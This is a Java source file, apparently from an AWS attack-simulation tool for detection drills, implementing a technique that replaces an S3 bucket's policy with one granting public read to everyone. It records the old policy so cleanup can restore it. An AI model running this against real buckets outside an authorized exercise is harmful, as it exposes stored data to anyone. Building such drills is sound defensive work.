package io.firedrill.injector.technique.exfiltration;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * Makes a bucket public with a bucket policy that lets anyone ({@code Principal: *}) read every
 * object: the data leaves without another call from the attacker. Cleanup puts the old policy back,
 * or deletes the new one when the bucket had none.
 */
public final class S3BucketPolicyPublic implements Technique<S3BucketPolicyPublic.Params> {

  /**
   * @param bucket the bucket to expose
   */
  public record Params(String bucket) {}

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.exfiltration.s3-bucket-policy-public",
          "Make a bucket public with its bucket policy",
          "Reads the bucket's policy (s3:GetBucketPolicy), then replaces it (s3:PutBucketPolicy)"
              + " with one that grants s3:GetObject to everyone. A bucket whose Block Public"
              + " Access forbids public policies refuses it with AccessDenied.",
          List.of("T1537", "T1530"),
          IncidentType.INFORMATION_EXPOSURE,
          List.of("GetBucketPolicy", "PutBucketPolicy"),
          List.of("Policy:S3/BucketAnonymousAccessGranted"),
          List.of("s3:GetBucketPolicy", "s3:PutBucketPolicy"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("bucket"));
    return new Params(Parameters.required(with, "bucket", "the name of the bucket to expose"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    return Grant.on(arns.bucket(p.bucket()), "s3:GetBucketPolicy", "s3:PutBucketPolicy");
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    String[] before = {""};
    calls.add(
        session.call(
            "s3",
            "GetBucketPolicy",
            () -> {
              var current = session.s3().getBucketPolicy(r -> r.bucket(p.bucket()));
              before[0] = current.policy();
              return current;
            }));
    // No policy yet is a policy cleanup can restore: none.
    boolean readable =
        calls.get(0).outcome().equals("allowed")
            || "NoSuchBucketPolicy".equals(calls.get(0).errorCode());
    if (!readable) {
      return calls; // without the old policy there is nothing cleanup could put back
    }
    ledger.willMake(Change.of(Change.S3_BUCKET_POLICY, p.bucket(), "policy", before[0]));
    calls.add(
        session.call(
            "s3",
            "PutBucketPolicy",
            () ->
                session
                    .s3()
                    .putBucketPolicy(r -> r.bucket(p.bucket()).policy(publicRead(p.bucket())))));
    return calls;
  }

  static String publicRead(String bucket) {
    return "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"PublicRead\","
        + "\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\","
        + "\"Resource\":\"arn:aws:s3:::"
        + bucket
        + "/*\"}]}";
  }
}
